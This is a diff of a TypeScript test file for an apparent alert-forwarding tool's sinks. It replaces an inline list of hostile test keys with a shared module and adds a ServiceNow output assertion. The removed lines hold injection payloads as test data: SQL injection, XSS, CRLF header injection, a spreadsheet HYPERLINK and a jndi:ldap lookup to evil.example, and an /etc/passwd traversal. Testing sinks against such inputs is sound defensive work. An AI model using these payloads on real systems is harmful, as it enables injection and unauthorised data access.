@@ -1,5 +1,6 @@
 import { createServer, type Server } from 'node:http';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { naughtyKeys } from '../../../test/support/naughty-strings.ts';
 import { OrgsweepError } from '../../model/index.ts';
 import { sweepMessage } from '../formats/queue-message.ts';
 import { createHttpSender, type SinkDeps, type SinkKind, sinkKind, sinkKinds } from '../index.ts';
@@ -12,25 +13,10 @@ interface Asked {
   readonly text: string;
 }
 
-/** Keys and tags as an attacker would name them. */
-const naughty = [
-  '=HYPERLINK("http://evil.example","x")',
-  '<!channel> @here <@U123> https://evil.example',
-  '[click](https://evil.example) **bold** _it_ `code`',
-  'a\r\nX-Injected: yes\r\n\r\nbody',
-  '\u001b[31mred\u001b[0m\u0007',
-  'x\u202egpj.exe\u2066',
-  "'; DROP TABLE findings; --",
-  '" OR labels = "x" ORDER BY key',
-  ['{{constructor.constructor("x")()}} $', '{jndi:ldap://evil.example/a}'].join(''),
-  '<script>alert(1)</script>',
-  '../../etc/passwd',
-  `${'k'.repeat(1_000)}`,
-];
 const events = [
   policyEvent(),
   sensitiveEvent(),
-  ...naughty.map((key) => sensitiveEvent({ key, tags: { [key]: key } })),
+  ...naughtyKeys.map((key) => sensitiveEvent({ key, tags: Object.fromEntries([[key, key]]) })),
 ];
 
 const sweepEvents = [sweepEvent('SWEEP'), sweepEvent('COVERAGE')];
@@ -200,6 +186,7 @@ describe('every kind of sink', () => {
         if (id !== 'webhook')
           for (const value of stringsOf(body))
             expect(value.replaceAll('\n', '')).toMatch(/^[^\p{Cc}\u202a-\u202e\u2066-\u2069]*$/u);
+        if (id === 'service-now') expect(text).not.toMatch(/\[\/?code\]/i);
         if (id === 'slack') expect(JSON.stringify(body)).not.toMatch(/"type":"mrkdwn"/);
         if (path.includes('search')) expect(text).not.toMatch(/OR labels|ORDER BY/);
       }
